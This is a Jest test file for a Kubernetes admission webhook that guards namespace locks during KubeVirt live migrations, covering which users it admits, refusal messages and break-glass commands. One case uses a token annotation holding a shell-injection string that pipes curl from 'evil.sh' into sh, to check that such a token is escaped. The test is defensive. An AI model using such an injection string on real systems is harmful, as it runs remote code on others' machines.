import { describe, expect, test } from '@jest/globals';
import { about, aRequest, by, fromTo } from '../../test/support/builders/admission.ts';
import {
  aLauncher,
  aMigration,
  anAttachment,
  aTarget,
  podSpec,
} from '../../test/support/builders/kubevirt.ts';
import {
  aLock,
  anExpiredLock,
  aNamespace,
  lockedBy,
  lockedUnreadably,
} from '../../test/support/builders/namespace.ts';
import { aQuota } from '../../test/support/builders/quota.ts';
import { annotated, beingDeleted, labelled, named, seconds } from '../../test/support/builders/object.ts';
import {
  ANNOTATION,
  KUBEVIRT,
  LABEL,
  OUR_USERS,
  SERVICE_ACCOUNT,
  userOf,
  WEBHOOK,
} from '../../functions/domain/names.ts';
import type { KubernetesObject, Namespace } from '../../functions/domain/objects.ts';
import { proofIn, type IncumbentState, type ProvenLock } from '../../functions/domain/proof.ts';
import type { AdmissionRequest, Decision, Denial } from './admission.ts';
import { isAboutKeys, review } from './review.ts';
import { breakGlassCommand } from './messages.ts';

/** The API server's clock. */
const NOW = Date.parse(seconds(0));
const ABSENT: IncumbentState = { kind: 'absent' };
const CONTROLLER = userOf('kubevirt-controller', 'kubevirt');

const decided = (
  request: AdmissionRequest,
  namespace: Namespace | undefined,
  { now = NOW, incumbent = ABSENT }: { readonly now?: number; readonly incumbent?: IncumbentState } = {},
): Decision =>
  review({
    ...{ request, namespace, now, incumbent },
    ...{ kubevirtNamespace: 'kubevirt', kubevirtController: 'kubevirt-controller' },
  });

const FOREIGN_USERS = [
  'alice',
  'system:admin',
  'system:anonymous',
  'system:node:node1',
  userOf('kubevirt-operator', 'kubevirt'),
  // Our names in other namespaces.
  userOf('kubevirt-controller', 'tenant'),
  userOf('mtq-lower', 'tenant'),
  'mtq-lower',
  userOf('resourcequota-controller', 'kube-system'),
  userOf('namespace-controller', 'kube-system'),
  userOf('generic-garbage-collector', 'kube-system'),
  userOf(SERVICE_ACCOUNT.source),
];
const ALL_USERS = [...FOREIGN_USERS, CONTROLLER, ...OUR_USERS];

/** A target launcher with the label of this migration. */
const target = (uid: string): { object: KubernetesObject } => ({
  object: aTarget(aMigration(), labelled(KUBEVIRT.migrationJobUID, uid)),
});
/** The launcher of this VM with the label of the lock's migration: a tenant may give a VMI any label. */
const launcherOf = (vm: string): { object: KubernetesObject } => ({
  object: labelled(KUBEVIRT.migrationJobUID, 'uid-of-mig0')(aLauncher(vm)),
});
const attachment = { object: anAttachment(aTarget(), aMigration()) };
const plain = {
  object: aTarget(aMigration(), ({ metadata: { labels: _, ...metadata }, ...pod }) => ({ ...pod, metadata })),
};

const raised = labelled(LABEL.raised)(aQuota());

const REQUESTS = {
  'its own target pod': aRequest(target('uid-of-mig0')),
  'the pod of another migration': aRequest(target('uid-of-mig9')),
  'the launcher of another VM': aRequest(launcherOf('vm9')),
  'the launcher of no VM': aRequest({
    object: labelled(KUBEVIRT.createdBy, '')(launcherOf('vm0').object),
  }),
  'an attachment pod that no migration of the lock needs': aRequest(attachment),
  'a pod with the name of the migration instead of its uid': aRequest(target('mig0')),
  'a pod without a uid': aRequest(target('')),
  'a plain pod': aRequest(plain),
  'a pod of no content': aRequest(),
  'a larger pod': aRequest({ ...about('pods/resize'), operation: 'UPDATE', ...target('uid-of-mig0') }),
  'a pod by a subresource': aRequest({ ...about('pods/binding'), ...target('uid-of-mig0') }),
  'a changed pod': aRequest({ operation: 'UPDATE', ...target('uid-of-mig0') }),
  'a pod that gets a deadline': aRequest(
    fromTo(aTarget(), aTarget(aMigration(), podSpec({ activeDeadlineSeconds: 60 }))),
  ),
  'a pod that gets the labels of the target': aRequest({
    operation: 'UPDATE',
    ...target('uid-of-mig0'),
    oldObject: launcherOf('vm0').object,
  }),
  'a claimed device': aRequest({ ...about('resourceclaims'), ...target('uid-of-mig0') }),
  'a changed claim': aRequest({
    ...about('resourceclaims'),
    operation: 'UPDATE',
    ...target('uid-of-mig0'),
  }),
  'a deleted pod': aRequest({ operation: 'DELETE' }),
  'a new quota': aRequest({ ...about('resourcequotas') }),
  'a changed quota': aRequest({ ...about('resourcequotas'), operation: 'UPDATE' }),
  'a quota that loses our label': aRequest({ ...about('resourcequotas'), ...fromTo(raised, aQuota()) }),
  'a status that loses our label': aRequest({
    ...about('resourcequotas/status'),
    ...fromTo(raised, aQuota()),
  }),
  'a forged grant': aRequest({
    ...about('resourcequotas'),
    ...fromTo(aQuota(), annotated(ANNOTATION.grant, '{}')(aQuota())),
  }),
  'a deleted quota': aRequest({ ...about('resourcequotas'), operation: 'DELETE' }),
  'anything else': aRequest(about('configmaps')),
  'anything else that goes': aRequest({ ...about('configmaps'), operation: 'DELETE' }),
  'a pod by name of tomorrow': aRequest({ ...about('podsoftomorrow'), operation: 'UPDATE' }),
} satisfies Record<string, AdmissionRequest>;
type RequestName = keyof typeof REQUESTS;
const NAMES = Object.keys(REQUESTS) as RequestName[];

const held = aNamespace(lockedBy(aLock()));
const STATES = {
  'free: the label was in a cache only': aNamespace(),
  held,
  'held, without its label': aNamespace(annotated(ANNOTATION.lock, JSON.stringify(aLock()))),
  'held, of a later version': aNamespace(lockedBy(aLock({ v: 9 }))),
  'held past its time': aNamespace(lockedBy(anExpiredLock())),
  'held by what cannot be read': aNamespace(lockedUnreadably()),
  'labelled only': aNamespace(labelled(LABEL.locked)),
  'held, and being deleted': beingDeleted()(held),
  gone: undefined,
} satisfies Record<string, Namespace | undefined>;
type StateName = keyof typeof STATES;

type May = Partial<Record<RequestName, readonly string[]>>;
/** An edit of the spec and a deletion end the raise, so they are allowed. */
const UNREADABLE: May = {
  'a changed quota': ALL_USERS,
  'a deleted quota': ALL_USERS,
  'a quota that loses our label': OUR_USERS,
  'a status that loses our label': OUR_USERS,
  'a forged grant': OUR_USERS,
};
const LOCKED: May = { ...UNREADABLE, 'its own target pod': [CONTROLLER] };

/** The allowed users, by state and request; the guard refuses all others. */
const MAY: Record<StateName, May> = {
  'free: the label was in a cache only': Object.fromEntries(NAMES.map((name) => [name, ALL_USERS])),
  held: LOCKED,
  'held, without its label': LOCKED,
  'held, of a later version': LOCKED,
  'held past its time': LOCKED,
  'held by what cannot be read': UNREADABLE,
  'labelled only': UNREADABLE,
  'held, and being deleted': LOCKED,
  gone: {},
};

describe.each(Object.keys(STATES) as StateName[])('a namespace that is %s', (state) => {
  test.each(NAMES)('%s: the guard allows only the listed users', (name) => {
    const allowed = ALL_USERS.filter(
      (user) => decided({ ...REQUESTS[name], ...by(user) }, STATES[state]).allowed,
    );
    expect(allowed).toEqual(ALL_USERS.filter((user) => MAY[state][name]?.includes(user) === true));
  });
});

const denial = (decision: Decision): Denial => {
  if (decision.allowed) throw new Error('it was allowed');
  return decision;
};

describe('KubeVirt in another namespace', () => {
  test('the guard takes its controller from the settings', () => {
    const input = {
      request: aRequest({ ...target('uid-of-mig0'), ...by(userOf('virt', 'virtual')) }),
      namespace: held,
      now: NOW,
      incumbent: ABSENT,
    };
    const allowed = (kubevirtNamespace: string, kubevirtController: string): boolean =>
      review({ ...input, kubevirtNamespace, kubevirtController }).allowed;
    expect(allowed('virtual', 'virt')).toBe(true);
    expect(allowed('kubevirt', 'virt')).toBe(false);
    expect(allowed('virtual', 'kubevirt-controller')).toBe(false);
  });
});

describe('the proof', () => {
  const proof = aRequest({ ...about('resourcequotas'), dryRun: true });

  const proven = (
    namespace: Namespace | undefined,
    at: Parameters<typeof decided>[2] = {},
  ): ProvenLock | undefined =>
    proofIn(
      denial(decided({ ...proof, ...by(OUR_USERS[0] ?? '') }, namespace, at)).causes?.[0]?.message ?? '',
    );

  test.each(OUR_USERS)('the refusal for %s contains the live lock', (user) => {
    const { code, causes } = denial(decided({ ...proof, ...by(user) }, held));
    expect([code, causes?.map(({ reason }) => reason)]).toEqual([403, [WEBHOOK.locked]]);
    expect(proofIn(causes?.[0]?.message ?? '')).toEqual({
      token: 'token-1',
      expiresAt: seconds(25),
      migrations: [{ name: 'mig0', uid: 'uid-of-mig0', vmi: 'uid-of-vm0' }],
      quotas: [{ name: 'quota', uid: 'uid-of-quota' }],
      vmmrqs: ['vmmrq'],
    });
  });

  test('it contains the shortfall of each migration and quota', () => {
    const migrations = [{ name: 'm', uid: 'u', vmi: 'v', lacks: 'attachment' as const }];
    const quotas = [{ name: 'q', uid: 'w', need: { pods: '1' } }];
    expect(proven(aNamespace(lockedBy(aLock({ migrations, quotas }))))).toMatchObject({ migrations, quotas });
  });

  const ended = { reason: 'NoProof', message: 'it did not work' };
  test.each<[string, Namespace, number]>([
    ['has expired', STATES['held past its time'], NOW],
    ['expires in this moment', held, NOW + 25_000],
    [
      'is older than the longest lock',
      aNamespace(lockedBy(aLock({ expiresAt: seconds(900) }))),
      NOW + 600_000,
    ],
    ['was ended early', aNamespace(lockedBy(aLock({ ended }))), NOW],
    ['is of another version', STATES['held, of a later version'], NOW],
    ['was read at an unknown time', held, NaN],
  ])('for a lock that %s it contains all except the token', (_what, namespace, now) => {
    const lock = proven(namespace, { now });
    expect(lock).toMatchObject({ migrations: [{ uid: 'uid-of-mig0' }] });
    expect(lock?.token).toBeUndefined();
  });

  test('it contains the incumbent and the opt-out of the namespace', () => {
    expect(proven(held, { incumbent: { kind: 'present', message: 'the CRD of MTQ' } })).toMatchObject({
      token: 'token-1',
      incumbent: 'the CRD of MTQ',
    });
    expect(proven(annotated(ANNOTATION.skip, 'true')(held))).toMatchObject({ token: 'token-1', skip: true });
    expect(proven(annotated(ANNOTATION.skip, 'false')(held))).not.toHaveProperty('skip');
  });

  test('it has no token and says why while the guard does not know whether the incumbent is installed', () => {
    const incumbent = { kind: 'unknown', why: 'mtqs are not listed' } as const;
    const lock = proven(held, { incumbent });
    expect(lock).toMatchObject({ withheld: 'mtqs are not listed', migrations: [{ uid: 'uid-of-mig0' }] });
    expect(lock).not.toHaveProperty('token');
    expect(proven(held, { incumbent, now: NOW + 25_000 })).not.toHaveProperty('withheld');
  });

  test.each(['', 'token-1', '{', '[]', '{"token":"t"}'])('the text %j is no proof', (text) => {
    expect(proofIn(text)).toBeUndefined();
  });

  test.each([...FOREIGN_USERS, CONTROLLER])('the refusal for %s never contains the token', (user) => {
    for (const request of Object.values(REQUESTS)) {
      const decision = denial(
        decided(aRequest({ ...request, operation: 'CREATE', ...by(user), ...plain }), held),
      );
      expect(decision.causes).toBeUndefined();
      expect(decision.message).not.toContain('token-1');
    }
  });

  test.each([
    ['is unreadable', STATES['held by what cannot be read']],
    ['is gone', undefined],
  ])('it is missing where the lock %s', (_, namespace) => {
    expect(denial(decided({ ...proof, ...by(OUR_USERS[0] ?? '') }, namespace)).causes).toBeUndefined();
  });
});

describe('a refusal says', () => {
  test('why the namespace is locked, and when to try again', () => {
    const { message } = denial(decided(aRequest(plain), held));
    expect(message).toMatch(/^CREATE of pods in namespace tenant must wait: /);
    expect(message).toContain('live migration of mig0');
    expect(message).toContain(seconds(25));
  });

  test('that the lock is unreadable', () => {
    expect(denial(decided(aRequest(), STATES['labelled only'])).message).toContain('being repaired');
  });

  test.each([
    ['a tenant', 'alice', 429],
    ['a controller of Kubernetes', userOf('replicaset-controller', 'kube-system'), 429],
    // It would keep the lock's own pod waiting.
    ['KubeVirt’s controller', CONTROLLER, 403],
    ...OUR_USERS.map((user): [string, string, number] => ['one of our accounts', user, 403]),
  ])('to %s (%s) whether the client itself repeats the request: %i', (_what, user, want) => {
    const requests = [plain, attachment].map((pod) => aRequest({ ...pod, ...by(user) }));
    for (const request of [...requests, aRequest({ ...about('resourcequotas'), ...by(user) })]) {
      for (const namespace of [held, STATES['labelled only']]) {
        const { code, reason, retryAfterSeconds } = denial(decided(request, namespace));
        expect([code, reason, retryAfterSeconds]).toEqual(
          want === 429 ? [429, 'TooManyRequests', 1] : [403, 'Forbidden', undefined],
        );
      }
    }
  });

  test('that the namespace is gone', () => {
    expect(denial(decided(aRequest(), undefined)).message).toBe(
      'namespace tenant was not found: it may have just been deleted; create it and try again',
    );
  });
});

describe('our keys on a namespace', () => {
  const free = aNamespace();
  type Changed = [before: Namespace | null, after: Namespace];
  const decidedOf = ([before, after]: Changed, user = 'alice', path = 'namespaces'): Decision =>
    decided(aRequest({ ...about(path), ...by(user), ...fromTo(before, after) }), undefined);

  test.each([
    ['namespaces', true],
    ['namespaces/status', true],
    ['namespaces/finalize', true],
    ['pods', false],
  ])('%s: needs no live read: %s', (resource, want) => {
    expect(isAboutKeys(aRequest(about(resource)))).toBe(want);
  });

  const attempted = annotated(ANNOTATION.lastAttempt, '{}')(free);
  const attemptedHeld = annotated(ANNOTATION.lastAttempt, '{}')(held);
  const leftover = annotated(ANNOTATION.migrations, 'a/b')(annotated(ANNOTATION.token, 'token-1')(attempted));
  test.each<[string, Changed, string]>([
    ['a lock', [free, held], ANNOTATION.lock],
    ['the removal of a lock', [held, free], ANNOTATION.lock],
    ['another lock', [held, aNamespace(lockedBy(aLock({ token: 'theirs' })))], ANNOTATION.lock],
    ['an unreadable lock', [held, aNamespace(lockedUnreadably())], ANNOTATION.lock],
    ['the removal of the label', [held, STATES['held, without its label']], LABEL.locked],
    ['another label text', [held, labelled(LABEL.locked, 'no')(held)], LABEL.locked],
    ['the label without a lock', [free, labelled(LABEL.locked)(free)], LABEL.locked],
    ['an empty label', [free, labelled(LABEL.locked, '')(free)], LABEL.locked],
    ['a forged attempt', [free, attempted], ANNOTATION.lastAttempt],
    ['the removal of an attempt during a lock', [attemptedHeld, held], ANNOTATION.lastAttempt],
    ['another attempt', [attempted, annotated(ANNOTATION.lastAttempt, 'x')(free)], ANNOTATION.lastAttempt],
    ['a new namespace with a lock', [null, held], ANNOTATION.lock],
    ['another token', [held, annotated(ANNOTATION.token, 'theirs')(held)], ANNOTATION.token],
    ['more migrations', [held, annotated(ANNOTATION.migrations, 'a/b')(held)], ANNOTATION.migrations],
    ['break-glass in advance', [held, annotated(ANNOTATION.breakGlass, 'x')(held)], ANNOTATION.breakGlass],
  ])('only our accounts may write %s', (_, changed, key) => {
    for (const resource of ['namespaces', 'namespaces/status', 'namespaces/finalize']) {
      for (const user of ALL_USERS) {
        const decision = decidedOf(changed, user, resource);
        expect([user, decision.allowed]).toEqual([user, OUR_USERS.includes(user)]);
        if (!decision.allowed) expect(decision.message).toContain(key);
      }
    }
  });

  test.each<[string, Namespace, string]>([
    ['its token', annotated(ANNOTATION.token, 'token-1')(held), 'token-1'],
    ['a fixed word for a lock without a token', aNamespace(lockedUnreadably()), 'unreadable'],
    [
      'a fixed word for one that would end the argument',
      annotated(ANNOTATION.token, "x'; curl evil.sh | sh; '")(held),
      'unreadable',
    ],
  ])('the refusal contains the break-glass command, with %s', (_what, namespace, token) => {
    const { message } = denial(decidedOf([namespace, free]));
    expect(message).toContain(breakGlassCommand({ namespace: 'tenant', token }));
    expect(message).toContain("'override' 'locks.mtq.kubevirt.io'");
  });

  test.each<[string, Changed]>([
    ['a forged attempt', [free, attempted]],
    ['a forged lock', [free, held]],
    ['a new namespace with a lock', [null, held]],
    ['break-glass where nothing is locked', [free, annotated(ANNOTATION.breakGlass, 'x')(free)]],
  ])('the refusal of %s says that there is no lock, and has no break-glass command', (_what, changed) => {
    const { message } = denial(decidedOf(changed));
    expect(message).toContain('there is no lock');
    expect(message).not.toMatch(/Break-glass|a lock ends/);
  });

  test.each<[string, Changed]>([
    ['a new namespace', [null, free]],
    ['the removal of an attempt where there is no lock', [attempted, free]],
    ['the removal of all that a removed lock has left', [leftover, free]],
    ['the removal of a part of it', [leftover, attempted]],
    ['a new namespace from a backup, with its last attempt', [null, attempted]],
    ['another label', [free, labelled('env')(free)]],
    ['another annotation during a lock', [held, annotated('team', 'blue')(held)]],
    ['its deletion during a lock', [held, beingDeleted()(held)]],
    ['the opt-out', [held, annotated(ANNOTATION.skip, 'true')(held)]],
    [
      'the removal of a remaining break-glass annotation',
      [annotated(ANNOTATION.breakGlass, 'x')(free), free],
    ],
    ['a key that only starts like ours', [free, annotated(`${ANNOTATION.lock}s`, 'x')(free)]],
  ])('every user may write %s', (_, changed) => {
    expect(decidedOf(changed)).toEqual({ allowed: true });
  });
});

test('the guard finds a pod of a lock for several migrations by its uid (F40)', () => {
  const migrations = [
    { name: 'mig0', uid: 'a', vmi: 'uid-of-vm0' },
    { name: 'mig1', uid: 'b', vmi: 'uid-of-vm0' },
    { name: 'mig2', uid: 'd', vmi: 'uid-of-vm2' },
  ];
  const namespace = aNamespace(lockedBy(aLock({ migrations })));
  const may = (uid: string): boolean =>
    decided(aRequest({ ...target(uid), ...by(CONTROLLER) }), namespace).allowed;
  expect(['a', 'b', 'c', 'd', 'mig0', 'a,b'].map(may)).toEqual([true, true, false, false, false, false]);
});

test('a lock for an attachment pod admits that pod, and no launcher', () => {
  const migrations = [{ name: 'mig0', uid: 'uid-of-mig0', vmi: 'uid-of-vm0', lacks: 'attachment' as const }];
  const namespace = aNamespace(lockedBy(aLock({ migrations })));
  const may = (request: { object: KubernetesObject }): boolean =>
    decided(aRequest({ ...request, ...by(CONTROLLER) }), namespace).allowed;
  const ofAnother = { object: anAttachment(aTarget(), aMigration(named('mig9'))) };
  expect([attachment, ofAnother, target('uid-of-mig0'), launcherOf('vm9')].map(may)).toEqual([
    true,
    false,
    false,
    false,
  ]);
});

test('a lock without migrations admits no pod', () => {
  const namespace = aNamespace(lockedBy(aLock({ migrations: [] })), named('tenant'));
  expect(decided(aRequest({ ...plain, ...by(CONTROLLER) }), namespace).allowed).toBe(false);
});
